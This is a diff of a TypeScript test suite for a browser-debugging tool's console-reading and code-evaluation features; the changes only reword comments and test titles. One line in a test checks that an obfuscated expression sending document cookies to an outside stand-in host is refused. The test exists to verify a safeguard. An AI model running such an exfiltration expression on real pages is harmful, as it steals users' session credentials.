@@ -16,13 +16,13 @@ afterEach(() => bench[Symbol.asyncDispose]());
 
 type Answer = z.output<(typeof penConsoleMessages)['result']>;
 
-/** What the window would be told of its log. */
+/** The window's page of its log. */
 function heardFrom(target: TargetInfo | undefined): ConsoleEntry[] {
   return ConsoleEntrySchema.array().parse(bench.core.consoleLog.feed.page(target?.id ?? '', null, 500)?.entries ?? []);
 }
 
 async function read(caller: BenchCaller, params: Record<string, unknown> = {}): Promise<Answer & { text: string }> {
-  // A size that is asked for raises the budget, which `run` would hold it to.
+  // A requested size raises the budget that `run` would otherwise enforce.
   const outcome =
     params['last'] === undefined
       ? await caller.run('pen_console_messages', params)
@@ -32,7 +32,7 @@ async function read(caller: BenchCaller, params: Record<string, unknown> = {}): 
   return { ...penConsoleMessages.result.parse(value), text };
 }
 
-/** Reads until a message says it. */
+/** Reads until a message contains it. */
 function untilTold(
   caller: BenchCaller,
   words: string,
@@ -49,7 +49,7 @@ const PAGE = `<title>shop</title><script>
 </script><button></button><iframe src="/missing"></iframe>
 <script>addEventListener('load', () => { window.worker = new Worker('/worker.js'); });</script>`;
 
-test('a page: what was before, what is said, thrown and rejected, floods, and two readers', async () => {
+test('a page: messages from before, logged, thrown and rejected ones, floods, and two readers', async () => {
   const site = bench.keep(
     await startSite({
       '/': PAGE,
@@ -68,7 +68,7 @@ test('a page: what was before, what is said, thrown and rejected, floods, and tw
   expect(before.messages.filter(({ text }) => text.startsWith('at load'))).toMatchObject([
     { isBeforeEnable: true, count: 1 },
   ]);
-  // The log of the browser itself: the frame that was not found.
+  // The browser's own log: the frame that was not found.
   expect(before.messages).toContainEqual(
     expect.objectContaining({ type: 'network', level: 'error', text: expect.stringContaining('404') }),
   );
@@ -102,7 +102,7 @@ test('a page: what was before, what is said, thrown and rejected, floods, and tw
   const long = heardFrom(bench.core.endpoints.endpoints()[0]?.targets[0]);
   expect(long.find(({ text }) => text.startsWith('xxx'))?.text).toHaveLength(2000 + '…(truncated)'.length);
 
-  // Caught after all.
+  // The rejection was handled later.
   await say('rejected.catch(() => 0); 0');
   await eventually('the rejection to be taken back', async () => {
     const { messages } = await read(one, { textFilter: 'unhandled' });
@@ -113,7 +113,7 @@ test('a page: what was before, what is said, thrown and rejected, floods, and tw
   await two.run('pen_console_enable', { target: 'worker.js' });
   await untilTold(two, 'beat DedicatedWorkerGlobalScope', { target: 'worker.js' });
 
-  // Another document: a mark with its address, and nothing is lost.
+  // Another document: a separator with its address, and nothing is lost.
   await one.run('pen_navigate', { action: 'goto', url: site.url('/next') });
   const there = await eventually('the mark of the navigation', async () => {
     const answer = await read(one, { last: 200 });
@@ -124,7 +124,7 @@ test('a page: what was before, what is said, thrown and rejected, floods, and tw
   expect(there.messages.some(({ text }) => text.startsWith('at load'))).toBe(true);
   expect((await untilTold(one, 'arrived')).messages.at(-1)).toMatchObject({ level: 'info', isBeforeEnable: false });
 
-  // One reader's clear is nobody else's, and loses nothing that comes meanwhile.
+  // Clearing affects one reader only, and loses no message that comes during it.
   await say('let i = 0; globalThis.ticking = setInterval(() => { if (i < 60) console.log("tick " + i++); }, 2); 0');
   const ticks: string[] = [];
   await eventually('every tick to be read once', async () => {
@@ -136,7 +136,7 @@ test('a page: what was before, what is said, thrown and rejected, floods, and tw
   expect((await read(two, { textFilter: 'tick ' })).matched).toBe(60);
   expect(await read(one)).toMatchObject({ messages: [], matched: 0 });
 
-  // More than is kept: the oldest go together, objects with them.
+  // Above the limit the oldest are dropped together, with their objects.
   await say('for (let i = 0; i < 1250; i++) console.log("flood " + i, { i }); 0');
   const flood = await eventually('the flood', async () => {
     const answer = await read(one, { textFilter: 'flood', last: 200 });
@@ -187,7 +187,7 @@ test('pen_evaluate: values, errors, promises, cycles, loops, cuts, and what is b
   });
   expect((await assistant.run('pen_evaluate', { expression: '"```\\n# no heading"' })).text).toContain('````');
 
-  // Declarations stay, statements count by their last value, and what follows the expression does not matter.
+  // Declarations persist, statements return their last value, and text after the expression does not matter.
   expect(await value('function twice(n) { return 2 * n; }')).toMatchObject({ value: 'undefined' });
   expect(await value('const three = 3; // a comment')).toMatchObject({ value: 'undefined' });
   expect(await value('twice(three), twice(three) + 1; // seven')).toMatchObject({ value: '7' });
@@ -215,7 +215,7 @@ test('pen_evaluate: values, errors, promises, cycles, loops, cuts, and what is b
     code: 'deadline_exceeded',
     message: expect.stringContaining('did not settle'),
   });
-  // The page lives, and its next script is not the one that is ended.
+  // The page survives, and the next script is not the one that is ended.
   expect(await value('[1, 2].map((one) => one * 2)')).toMatchObject({ isJson: true });
   expect(await failure('fetch("https://away.test?" + document["coo" + "kie"])')).toMatchObject({
     code: 'permission_denied',
@@ -223,7 +223,7 @@ test('pen_evaluate: values, errors, promises, cycles, loops, cuts, and what is b
   });
   expect(await failure('   ')).toMatchObject({ code: 'invalid_params' });
 
-  // What may only read is ended before it changes anything.
+  // Read-only evaluation ends before it changes anything.
   expect(await value('({ title: document.title })', { readOnly: true })).toMatchObject({
     isJson: true,
     value: expect.stringContaining('shop'),
@@ -241,7 +241,7 @@ test('pen_evaluate: values, errors, promises, cycles, loops, cuts, and what is b
   const calls = bench.core.activity.calls().filter(({ tool }) => tool === 'pen_evaluate');
   expect(calls.some(({ argumentsJson }) => argumentsJson.includes('document.title'))).toBe(true);
 
-  // The person's own runs where its value can be opened, and is told to no assistant.
+  // The user's own evaluation returns values that can be expanded, and no assistant sees it.
   const person = bench.caller('you', 'window');
   const [page] = bench.core.endpoints.endpoints()[0]?.targets ?? [];
   await person.run('pen_console_enable');
@@ -273,7 +273,7 @@ test('pen_evaluate: values, errors, promises, cycles, loops, cuts, and what is b
   });
 }, 60_000);
 
-test('without a window nobody can be asked, and switched off it is refused', async () => {
+test('without a window evaluation needs no question but fails, and it is refused when switched off', async () => {
   const asks = bench.keep(await createCoreBench({ evalMode: 'ask' }));
   const off = bench.keep(await createCoreBench());
   const node = bench.keep(await startNode('setInterval(() => 0, 1000)'));
@@ -288,7 +288,7 @@ test('without a window nobody can be asked, and switched off it is refused', asy
   });
 }, 30_000);
 
-test('a value too large for any answer is cut or described in its target', async () => {
+test('a value too large for any answer is truncated or described in its target', async () => {
   const runtime = bench.keep(await startNode('setInterval(() => 0, 1000)'));
   const counted = await startCountedPort(runtime.port);
   await bench.connect({ ...runtime, port: counted.port });
@@ -306,7 +306,7 @@ test('a value too large for any answer is cut or described in its target', async
   expect(described.value).toMatchObject({ isJson: false, value: expect.stringContaining('other: 1') });
   expect(described.text).toContain('more than 10,000,000 characters of JSON');
   expect(counted.receivedBytes()).toBeLessThan(10_000_000);
-  // The value of statements, and what is thrown, are not known before they have come.
+  // The size of a statement's value or an exception is unknown before it arrives.
   const large = '"y".repeat(20e6)';
   expect((await assistant.run('pen_evaluate', { expression: `const big = ${large}; big` })).value).toMatchObject({
     isCut: true,
@@ -320,7 +320,7 @@ test.each([
   ['node', startNode],
   ['deno', startDeno],
 ] as const)(
-  '%s tells its console, uncaught errors and rejections, and evaluates',
+  '%s reports its console, uncaught errors and rejections, and evaluates',
   async (type, start) => {
     const runtime = bench.keep(
       await start(`console.log('\\u001b[32mgreen\\u001b[39m start', { port: 1 });
